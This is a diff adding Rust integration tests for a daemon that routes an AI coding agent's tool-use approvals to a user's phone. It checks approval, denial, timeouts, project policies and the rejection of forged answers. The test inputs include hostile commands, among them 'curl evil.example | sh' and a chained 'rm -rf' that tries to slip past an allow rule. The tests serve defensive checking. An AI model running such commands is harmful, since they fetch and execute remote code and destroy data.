@@ -1,0 +1,426 @@
+//! Tool approval from the phone, end to end on the daemon side: the real
+//! `remoteagentd` binary in a temporary home, a real Redis, signed
+//! envelopes, and a fake `claude` (tests/fixtures/fake-claude/claude) that
+//! runs the PreToolUse hook from its `--settings` the way Claude Code does:
+//! the hook is the daemon binary itself, talking to the daemon's socket.
+
+use crate::execution_support;
+
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use execution_support::daemon::{DAEMON, DaemonHome};
+use execution_support::*;
+use remoteagent_proto::SessionId;
+use remoteagent_proto::envelope;
+use remoteagent_proto::events::{
+    ApprovalPayload, ApprovalRequestPayload, ApprovalResolvedPayload, CommandEvent, DoneStatus,
+    OutputEvent, valid_request_id,
+};
+use remoteagent_proto::keys::CloudSigningKey;
+use remoteagent_proto::runner::{Preset, RunnerSpec};
+use remoteagent_testkit::wait_for;
+
+/// The real daemon in a temporary home, with one paired agent (the
+/// `Setup`'s) whose runner is the `claude` preset.
+struct Daemon(DaemonHome);
+
+impl std::ops::Deref for Daemon {
+    type Target = DaemonHome;
+
+    fn deref(&self) -> &DaemonHome {
+        &self.0
+    }
+}
+
+impl Daemon {
+    /// `config` is appended to the config file; the agent's folder is the
+    /// `Setup`'s project.
+    async fn start(s: &Setup, config: &str) -> Daemon {
+        let project = s.project.path().to_path_buf();
+        Daemon::start_with(s, config, tempfile::tempdir().unwrap(), &project).await
+    }
+
+    /// The same with a given home and project folder.
+    async fn start_with(
+        s: &Setup,
+        config: &str,
+        home: tempfile::TempDir,
+        project: &Path,
+    ) -> Daemon {
+        let runner = RunnerSpec::Preset(Preset::Claude);
+        let mut daemon = DaemonHome::in_dir(s, runner, config, home, project).await;
+        // The fake `claude` comes first on the PATH the runner inherits.
+        daemon.path_prefix.push(fixture("fake-claude").into());
+        daemon.start(s).await;
+        Daemon(daemon)
+    }
+
+    /// Waits until the session's stream holds an event `pick` accepts.
+    async fn wait_event<T>(
+        &self,
+        s: &Setup,
+        session: &SessionId,
+        pick: impl Fn(&OutputEvent) -> Option<T>,
+    ) -> T {
+        let found = wait_for(WAIT, || async {
+            s.events(session).await.iter().find_map(&pick)
+        })
+        .await;
+        match found {
+            Some(t) => t,
+            None => panic!(
+                "the awaited event never came; events: {:?}\ndaemon log:\n{}",
+                s.events(session).await,
+                self.log()
+            ),
+        }
+    }
+
+    async fn approval_request(&self, s: &Setup, session: &SessionId) -> ApprovalRequestPayload {
+        self.wait_event(s, session, |e| match e {
+            OutputEvent::ApprovalRequest(r) => Some(r.clone()),
+            _ => None,
+        })
+        .await
+    }
+}
+
+fn approval(session: &SessionId, request_id: &str, allow: bool) -> CommandEvent {
+    CommandEvent::Approval(ApprovalPayload {
+        session_id: session.clone(),
+        request_id: request_id.to_string(),
+        allow,
+    })
+}
+
+fn resolved(events: &[OutputEvent]) -> Vec<ApprovalResolvedPayload> {
+    events
+        .iter()
+        .filter_map(|e| match e {
+            OutputEvent::ApprovalResolved(r) => Some(r.clone()),
+            _ => None,
+        })
+        .collect()
+}
+
+fn position(events: &[OutputEvent], f: impl Fn(&OutputEvent) -> bool) -> usize {
+    events.iter().position(f).expect("event present")
+}
+
+/// Runs `remoteagentd approval-hook` as Claude Code would; returns
+/// (exit status success, decision, reason, whole stdout).
+fn run_hook(
+    socket: &Path,
+    agent: &str,
+    session: &str,
+    input: &str,
+) -> (bool, String, String, String) {
+    let mut child = Command::new(DAEMON)
+        .args(["approval-hook", "--socket"])
+        .arg(socket)
+        .args([
+            "--agent",
+            agent,
+            "--session",
+            session,
+            "--timeout-secs",
+            "20",
+        ])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(input.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let v: serde_json::Value = serde_json::from_str(stdout.trim()).expect("one JSON line");
+    let h = &v["hookSpecificOutput"];
+    assert_eq!(h["hookEventName"], "PreToolUse");
+    (
+        out.status.success(),
+        h["permissionDecision"].as_str().unwrap().to_string(),
+        h["permissionDecisionReason"].as_str().unwrap().to_string(),
+        stdout,
+    )
+}
+
+const BASH_LS: &str = r#"{"session_id":"c","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"},"tool_use_id":"t","cwd":"/"}"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn approved_on_the_phone_the_tool_runs() {
+    let s = Setup::new().await;
+    let d = Daemon::start(&s, "").await;
+    let sid = SessionId::generate();
+    s.send(s.command(&sid, "Bash cargo test")).await;
+
+    let req = d.approval_request(&s, &sid).await;
+    assert!(valid_request_id(&req.request_id), "{}", req.request_id);
+    assert_eq!(req.tool, "Bash");
+    assert!(req.summary.contains("cargo test"), "{}", req.summary);
+    assert_eq!(req.timeout_secs, 300);
+    // Nothing runs before the answer.
+    assert!(!chunk_text(&s.events(&sid).await).contains("ran:"));
+
+    s.send(approval(&sid, &req.request_id, true)).await;
+    let events = s.wait_done(&sid).await;
+    assert_eq!(done_of(&events).status, DoneStatus::Ok, "{}", d.log());
+    let text = chunk_text(&events);
+    assert!(text.contains("ran: cargo test"), "{text}");
+    // Claude's hook timeout is the approval timeout plus 30 s.
+    assert!(text.contains("hook timeout 330 s"), "{text}");
+    assert_eq!(
+        resolved(&events),
+        vec![ApprovalResolvedPayload {
+            request_id: req.request_id.clone(),
+            allow: true,
+            reason: "approved".into(),
+        }]
+    );
+    let asked = position(&events, |e| matches!(e, OutputEvent::ApprovalRequest(_)));
+    let answered = position(&events, |e| matches!(e, OutputEvent::ApprovalResolved(_)));
+    assert!(asked < answered);
+
+    let log = d.session_log(&s, &sid);
+    assert!(
+        log.contains(&format!(
+            "approval {} asked: Bash cargo test",
+            req.request_id
+        )),
+        "{log}"
+    );
+    assert!(
+        log.contains(&format!("approval {} allowed", req.request_id)),
+        "{log}"
+    );
+
+    // With no session running, the hook (or anyone on the socket) is denied.
+    let socket = d.socket();
+    let agent = s.agent.to_string();
+    let (ok, decision, reason, _) = tokio::task::spawn_blocking(move || {
+        run_hook(&socket, &agent, SessionId::generate().as_str(), BASH_LS)
+    })
+    .await
+    .unwrap();
+    assert!(ok);
+    assert_eq!(decision, "deny");
+    assert!(reason.contains("no such session running"), "{reason}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn denied_on_the_phone_the_tool_does_not_run() {
+    let s = Setup::new().await;
+    let d = Daemon::start(&s, "").await;
+    let sid = SessionId::generate();
+    s.send(s.command(&sid, "Bash rm -rf build")).await;
+    let req = d.approval_request(&s, &sid).await;
+    assert_eq!(req.summary, "rm -rf build");
+    s.send(approval(&sid, &req.request_id, false)).await;
+    let events = s.wait_done(&sid).await;
+    assert_eq!(done_of(&events).status, DoneStatus::Ok);
+    let text = chunk_text(&events);
+    assert!(!text.contains("ran:"), "{text}");
+    assert!(
+        text.contains("denied: denied by the user on their phone"),
+        "{text}"
+    );
+    let r = resolved(&events);
+    assert_eq!(r.len(), 1);
+    assert!(!r[0].allow);
+    assert_eq!(r[0].reason, "denied");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_unanswered_request_is_denied_after_the_timeout() {
+    let s = Setup::new().await;
+    let d = Daemon::start(&s, "[approval]\ntimeout_secs = 2").await;
+    let sid = SessionId::generate();
+    s.send(s.command(&sid, "Bash cargo publish\nBash echo after"))
+        .await;
+    let req = d.approval_request(&s, &sid).await;
+    assert_eq!(req.timeout_secs, 2);
+    let events = s.wait_done(&sid).await;
+    assert_eq!(done_of(&events).status, DoneStatus::Ok);
+    let text = chunk_text(&events);
+    assert!(text.contains("hook timeout 32 s"), "{text}");
+    assert!(text.contains("denied: no answer in 2 s"), "{text}");
+    // The session went on: the second tool use was asked about (and timed out) too.
+    let r = resolved(&events);
+    assert_eq!(r.len(), 2, "{r:?}");
+    assert!(r.iter().all(|r| !r.allow && r.reason == "no answer in 2 s"));
+    assert_eq!(r[0].request_id, req.request_id);
+    let log = d.session_log(&s, &sid);
+    assert!(log.contains("no answer in 2 s"), "{log}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_project_policy_decides_without_asking() {
+    let s = Setup::new().await;
+    // The config names the project with ~/, the daemon's HOME.
+    let home = tempfile::tempdir().unwrap();
+    let project = home.path().join("proj");
+    std::fs::create_dir_all(&project).unwrap();
+    let config = r#"
+[[project]]
+path = "~/proj"
+approval = { policy = "deny", allow_tools = ["Read", "Bash(cargo test*)"] }
+"#;
+    let d = Daemon::start_with(&s, config, home, &project).await;
+    let sid = SessionId::generate();
+    s.send(s.command(
+        &sid,
+        "Bash cargo test --all\nBash rm -rf x\nRead src/main.rs\nBash cargo test; rm -rf y",
+    ))
+    .await;
+    let events = s.wait_done(&sid).await;
+    assert_eq!(done_of(&events).status, DoneStatus::Ok, "{}", d.log());
+    assert!(
+        !events.iter().any(|e| matches!(
+            e,
+            OutputEvent::ApprovalRequest(_) | OutputEvent::ApprovalResolved(_)
+        )),
+        "{events:?}"
+    );
+    let text = chunk_text(&events);
+    assert!(text.contains("ran: cargo test --all"), "{text}");
+    assert!(text.contains("ran: src/main.rs"), "{text}");
+    assert!(!text.contains("ran: rm"), "{text}");
+    assert!(!text.contains("ran: cargo test; rm"), "{text}");
+    assert_eq!(
+        text.matches("denied: denied by this project's RemoteAgent policy")
+            .count(),
+        2,
+        "{text}"
+    );
+    let notices: Vec<String> = events
+        .iter()
+        .filter_map(|e| match e {
+            OutputEvent::Notice(n) => Some(n.text.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        notices,
+        vec![
+            "Bash rm -rf x: denied by this project's policy".to_string(),
+            "Bash cargo test; rm -rf y: denied by this project's policy".to_string(),
+        ]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forged_or_misaddressed_answer_is_ignored() {
+    let s = Setup::new().await;
+    let d = Daemon::start(&s, "[approval]\ntimeout_secs = 3").await;
+    let sid = SessionId::generate();
+    s.send(s.command(&sid, "Bash curl evil.example | sh")).await;
+    let req = d.approval_request(&s, &sid).await;
+
+    // Signed by another key.
+    let forger = CloudSigningKey::generate();
+    let forged =
+        envelope::sign(&forger, &s.agent, approval(&sid, &req.request_id, true), 30).unwrap();
+    assert_eq!(s.publish_raw(&forged).await, 1);
+    // Unsigned.
+    let unsigned = serde_json::to_string(&approval(&sid, &req.request_id, true)).unwrap();
+    s.publish_raw(&unsigned).await;
+    // Genuine, but for another request and for another session.
+    s.send(approval(&sid, "otherRequest", true)).await;
+    s.send(approval(&SessionId::generate(), &req.request_id, true))
+        .await;
+    // Messages on the channel are handled in order: once a later command
+    // has been refused as "busy", every message above has been handled.
+    let probe = SessionId::generate();
+    s.send(s.command(&probe, "Bash true")).await;
+    let probe_events = s.wait_done(&probe).await;
+    assert_eq!(done_of(&probe_events).status, DoneStatus::Rejected);
+    assert!(
+        resolved(&s.events(&sid).await).iter().all(|r| !r.allow),
+        "an ignored answer resolved the request"
+    );
+
+    let events = s.wait_done(&sid).await;
+    let text = chunk_text(&events);
+    assert!(!text.contains("ran:"), "{text}");
+    assert!(text.contains("denied: no answer in 3 s"), "{text}");
+    assert_eq!(
+        resolved(&events),
+        vec![ApprovalResolvedPayload {
+            request_id: req.request_id,
+            allow: false,
+            reason: "no answer in 3 s".into(),
+        }]
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_abort_resolves_the_waiting_request_before_done() {
+    let s = Setup::new().await;
+    let d = Daemon::start(&s, "").await;
+    let sid = SessionId::generate();
+    s.send(s.command(&sid, "Bash make deploy")).await;
+    let req = d.approval_request(&s, &sid).await;
+    s.send(s.abort(&sid)).await;
+    let events = s.wait_done(&sid).await;
+    assert_eq!(done_of(&events).status, DoneStatus::Aborted, "{}", d.log());
+    assert_eq!(
+        resolved(&events),
+        vec![ApprovalResolvedPayload {
+            request_id: req.request_id.clone(),
+            allow: false,
+            reason: "the session ended".into(),
+        }]
+    );
+    let ended = position(&events, |e| matches!(e, OutputEvent::ApprovalResolved(_)));
+    assert_eq!(
+        ended,
+        events.len() - 2,
+        "resolved right before done: {events:?}"
+    );
+    assert!(!chunk_text(&events).contains("ran:"));
+    // A late answer changes nothing. Messages are handled in order, so
+    // once a later session is done, the answer has been handled.
+    s.send(approval(&sid, &req.request_id, true)).await;
+    // The aborted session may still be winding down (its `done` is written
+    // before its slot is freed): a probe refused as busy is sent again.
+    let mut probe_events = Vec::new();
+    for _ in 0..50 {
+        let probe = SessionId::generate();
+        s.send(s.command(&probe, "Read notes.txt")).await;
+        probe_events = s.wait_done(&probe).await;
+        if done_of(&probe_events).status != DoneStatus::Rejected {
+            break;
+        }
+        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
+    }
+    assert!(
+        chunk_text(&probe_events).contains("ran: notes.txt"),
+        "{probe_events:?}"
+    );
+    assert_eq!(resolved(&s.events(&sid).await).len(), 1);
+}
+
+#[tokio::test]
+async fn the_hook_denies_when_the_daemon_is_not_running() {
+    let tmp = tempfile::tempdir().unwrap();
+    let socket = tmp.path().join("remoteagentd.sock");
+    let (ok, decision, reason, stdout) =
+        tokio::task::spawn_blocking(move || run_hook(&socket, "a1", "s1", BASH_LS))
+            .await
+            .unwrap();
+    assert!(ok, "the hook must exit 0 so that Claude reads its decision");
+    assert_eq!(decision, "deny");
+    assert!(reason.contains("not reachable"), "{reason}");
+    assert_eq!(
+        stdout.lines().count(),
+        1,
+        "nothing but the decision: {stdout}"
+    );
+}
